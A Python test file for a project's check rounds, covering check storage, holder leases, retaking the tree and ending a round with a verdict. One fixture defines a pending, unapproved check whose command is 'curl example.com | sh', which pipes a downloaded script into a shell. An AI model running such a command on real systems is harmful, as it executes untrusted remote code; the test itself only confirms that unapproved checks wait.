"""A round of checks: who drives it, what it takes again, and how it ends."""

from __future__ import annotations

from datetime import timedelta

from mission.domain.checks.check import Approval
from mission.domain.checks.round import HOLDER_LEASE, DefinedCheck, RoundState
from tests.domain.checks.rounds import NOW, TREE, a_round, defined

TESTS = defined({"name": "tests", "run": "make test", "before": "fail", "tests": ["tests/**"]})


def test_the_checks_of_a_round_survive_storage():
    proposed = defined("curl example.com | sh", approval=Approval.PENDING)

    assert a_round(TESTS, proposed).defined == [TESTS, proposed]
    assert DefinedCheck.from_dict(proposed.as_dict()).waits


def test_a_round_is_driven_until_its_holder_has_been_silent_for_the_lease():
    held = a_round(TESTS).held_by("daemon", at=NOW)

    assert not a_round(TESTS).is_driven(now=NOW)
    assert held.is_driven(now=NOW + HOLDER_LEASE - timedelta(seconds=1))
    assert not held.is_driven(now=NOW + HOLDER_LEASE)
    assert not held.is_driven(now=NOW - timedelta(hours=1))


def test_a_round_that_takes_the_tree_again_forgets_the_earlier_one():
    first = a_round(TESTS, identity={"files": 1}, changes={"added": 1})
    again = first.taken_again(at=NOW)

    assert (first.take, first.tree) == (1, TREE)
    assert (again.take, again.tree, again.identity, again.changes) == (2, None, None, None)


def test_an_ended_round_keeps_its_verdict_and_has_no_holder():
    verdict = {"state": "passed", "proves": True, "results": []}
    round = a_round(TESTS).held_by("daemon", at=NOW)

    ended = round.ended(RoundState.PASSED, at=NOW, verdict=verdict, reason=None)

    assert round.is_open
    assert (ended.is_open, ended.state, ended.verdict) == (False, RoundState.PASSED, verdict)
    assert (ended.holder, ended.holder_until, ended.ended_at) == (None, None, NOW)
